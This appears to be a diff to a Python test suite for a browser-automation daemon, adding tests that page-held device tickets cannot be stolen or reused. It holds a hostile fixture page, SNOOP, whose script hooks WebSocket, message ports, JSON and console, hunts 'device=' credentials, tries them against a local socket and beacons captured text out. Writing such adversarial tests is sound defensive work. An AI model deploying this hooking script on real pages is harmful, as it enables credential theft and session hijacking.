@@ -75,6 +75,41 @@ document.getElementById('send').addEventListener('click', function (e) {
 </script>"""
 
 
+# A page that wiretaps everything a page script can reach: the socket API, message ports and
+# window messages, JSON, console; and then tries every string it saw as a device credential.
+SNOOP = """<!doctype html><title>snoop</title><input id="pw" type="text" placeholder="Secret">
+<button id="send">Send</button>
+<script>
+var seen = [], tried = {};
+function leak(x) { try { seen.push(typeof x === 'string' ? x : JSON.stringify(x)); } catch (e) {} }
+var OS = WebSocket.prototype.send, OW = window.WebSocket, OP = MessagePort.prototype.postMessage;
+WebSocket.prototype.send = function (d) { leak(this.url); leak(d); return OS.apply(this, arguments); };
+window.WebSocket = function (u, p) { leak(String(u)); return p ? new OW(u, p) : new OW(u); };
+window.WebSocket.prototype = OW.prototype;
+MessagePort.prototype.postMessage = function (d) { leak(d); return OP.apply(this, arguments); };
+window.addEventListener('message', function (e) { leak(e.data); leak(e.ports && e.ports.length); }, true);
+var JP = JSON.parse; JSON.parse = function (t) { seen.push(String(t)); return JP.apply(JSON, arguments); };
+['log', 'warn', 'error', 'info', 'debug'].forEach(function (k) {
+  var o = console[k]; console[k] = function () { leak(Array.prototype.join.call(arguments, ' ')); return o.apply(console, arguments); };
+});
+function tryAll() {
+  var text = seen.join(' ') + ' ' + document.documentElement.outerHTML, re = /device=([A-Za-z0-9_%%-]+)/g, m;
+  while ((m = re.exec(text))) {
+    if (tried[m[1]]) continue;
+    tried[m[1]] = 1;
+    var ws = new OW('ws://127.0.0.1:%(port)s/reticle?device=' + m[1]);
+    ws.onopen = function () { navigator.sendBeacon('/api/stolen', 'opened'); };
+  }
+  navigator.sendBeacon('/api/snoop', JSON.stringify({seen: seen.length, tried: Object.keys(tried),
+    hunter: text.indexOf('hunter2') >= 0, text: text.slice(-20000)}));
+}
+setInterval(tryAll, 150);
+document.getElementById('send').addEventListener('click', function () {
+  fetch('/api/send', {method: 'POST', body: document.getElementById('pw').value});
+});
+</script>"""
+
+
 class Recorder(tornado.web.RequestHandler):
     def initialize(self, log):
         self.log = log
@@ -233,6 +268,38 @@ def test_a_caller_with_a_device_means_it_when_it_names_no_session(daemon, mcp, a
         other.call("reticle_close", {})
         other.close()
         bystander.close()
+
+
+def test_a_page_in_a_device_never_sees_its_bridge_ticket_and_cannot_take_the_session(daemon, mcp):
+    """Issue 19 #1: a page that hooks the socket API, ports, messages, JSON and console sees no
+    credential; every string it tries as one is refused; the device's own socket stays."""
+    log = []
+    page = SNOOP.replace("%(port)s", str(daemon.port))
+    snoop = _harness.AppServer([(r"/api/(\w+)", Recorder, {"log": log}),
+                                (r"/", _harness.TemplatePage, {"template": page, "daemon": ""})])
+    try:
+        sid = mcp.ok("reticle_open", {"url": snoop.url + "/"})["sessionId"]
+        mcp.ok("reticle_act", {"target": {"role": "textbox", "name": "Secret"}, "action": "fill",
+                               "args": {"value": "hunter2"}, "sessionId": sid})
+        res = mcp.ok("reticle_act_and_wait", {
+            "target": {"role": "button", "name": "Send"}, "action": "click", "sessionId": sid,
+            "until": {"kind": "net", "method": "POST", "urlContains": "/api/send", "status": 201}})
+        assert res["verified"] == "yes", res
+        # a second document of the same device: its ticket is a new one, and the page hunts again
+        mcp.ok("reticle_open", {"url": snoop.url + "/?again=1"})
+        _harness.wait_until(lambda: len([x for x in log if x[0] == "snoop"]) > 6, 10, what="the page to snoop")
+        time.sleep(0.5)
+        reports = [json.loads(x[1]) for x in log if x[0] == "snoop"]
+        assert any(r["seen"] for r in reports), "the page's hooks saw nothing at all: the test is blind"
+        assert any(r["hunter"] for r in reports), "the page's hooks did not even see the fill: the test is blind"
+        assert not any(r["tried"] for r in reports), reports[-1]["tried"]
+        assert not [x for x in log if x[0] == "stolen"]
+        assert "device_second_socket" not in daemon.log()
+        sessions = mcp.ok("reticle_sessions")["sessions"]
+        assert [x["sessionId"] for x in sessions] == [sid] and "?again=1" in sessions[0]["url"], sessions
+    finally:
+        mcp.call("reticle_close", {})
+        snoop.close()
 
 
 def test_every_act_in_a_device_is_trusted_input(mcp, app):
@@ -467,10 +534,10 @@ class CapabilityTest(AsyncHTTPTestCase):
         self.hub.devices.devices[self.device.id] = self.device
         return reticle.make_app(self.hub)
 
-    async def _device_page(self):
-        """A page of the device (a staging origin, the device's capability) says hello.
+    async def _device_page(self, ticket=None):
+        """A page of the device (a staging origin, a ticket its relay was given) says hello.
         -> (its socket, the session the bridge made, or None after a second)."""
-        ws = await self._connect("?device=" + self.device.capability, "http://%s" % STAGING)
+        ws = await self._connect("?device=" + (ticket or self.device.mint_ticket(1, "page")), "http://%s" % STAGING)
         ws.write_message(self.hello(self.device.session_id))
         for _ in range(100):
             if self.hub.bridge.get(self.device.session_id):
@@ -502,15 +569,15 @@ class CapabilityTest(AsyncHTTPTestCase):
     async def test_a_wrong_capability_is_refused_at_the_upgrade(self):
         from tornado.httpclient import HTTPClientError
 
-        for cap in ("wrong", self.device.capability[:-1] + ("A" if self.device.capability[-1] != "A" else "B"),
-                    self.hub.token()):
+        ticket = self.device.mint_ticket(1, "page")
+        for cap in ("wrong", ticket[:-1] + ("A" if ticket[-1] != "A" else "B"), self.hub.token()):
             with self.assertRaises(HTTPClientError) as caught:
                 await self._connect("?device=" + cap, "http://%s" % STAGING)
             self.assertEqual(caught.exception.code, 403)
 
     @gen_test
     async def test_a_capability_is_refused_for_another_session(self):
-        ws = await self._connect("?device=" + self.device.capability, "http://%s" % STAGING)
+        ws = await self._connect("?device=" + self.device.mint_ticket(1, "page"), "http://%s" % STAGING)
         ws.write_message(self.hello("someone-else"))
         msg = await ws.read_message()
         self.assertIsNone(msg)
@@ -529,7 +596,7 @@ class CapabilityTest(AsyncHTTPTestCase):
 
     @gen_test
     async def test_input_asked_for_outside_an_act_is_refused_and_the_bridge_stays_up(self):
-        ws = await self._connect("?device=" + self.device.capability, "http://%s" % STAGING)
+        ws = await self._connect("?device=" + self.device.mint_ticket(1, "page"), "http://%s" % STAGING)
         ws.write_message(self.hello(self.device.session_id))
         for frame in ({"kind": "input", "id": "i1", "action": "click", "x": 10, "y": 10},
                       {"kind": "input", "id": "i2", "action": "click", "x": "not a number"}):
@@ -545,6 +612,43 @@ class CapabilityTest(AsyncHTTPTestCase):
         self.assertIn("not a number", reply["error"])
         self.device.acting = 0
         self.assertIsNotNone(self.hub.bridge.get(self.device.session_id).handler)
+
+    @gen_test
+    async def test_a_second_socket_with_a_used_ticket_is_refused_and_logged_as_a_warning(self):
+        from tornado.httpclient import HTTPClientError
+
+        ticket = self.device.mint_ticket(1, "page")
+        ws, session = await self._device_page(ticket)
+        self.assertIsNotNone(session)
+        with self.assertLogs("reticle.bridge", "WARNING") as logged:
+            with self.assertRaises(HTTPClientError) as caught:
+                await self._connect("?device=" + ticket, "http://evil.test")
+        self.assertEqual(caught.exception.code, 403)
+        self.assertTrue(any("device_second_socket" in line for line in logged.output), logged.output)
+        # the live session keeps its own socket
+        self.assertIs(self.hub.bridge.get(self.device.session_id).handler, session.handler)
+
+    @gen_test
+    async def test_a_ticket_rotates_when_another_document_asks(self):
+        from tornado.httpclient import HTTPClientError
+
+        old = self.device.mint_ticket(1, "page")
+        new = self.device.mint_ticket(2, "page")  # the next document's relay asked: a navigation
+        with self.assertRaises(HTTPClientError) as caught:
+            await self._connect("?device=" + old, "http://%s" % STAGING)
+        self.assertEqual(caught.exception.code, 403)
+        ws, session = await self._device_page(new)
+        self.assertIsNotNone(session)
+
+    @gen_test
+    async def test_an_unused_ticket_expires(self):
+        from tornado.httpclient import HTTPClientError
+
+        ticket = self.device.mint_ticket(1, "page")
+        self.device.tickets[ticket]["minted"] -= reticle.TICKET_UNUSED_S + 1
+        with self.assertRaises(HTTPClientError) as caught:
+            await self._connect("?device=" + ticket, "http://%s" % STAGING)
+        self.assertEqual(caught.exception.code, 403)
 
     @gen_test
     async def test_wrong_capabilities_are_limited_as_wrong_tokens(self):
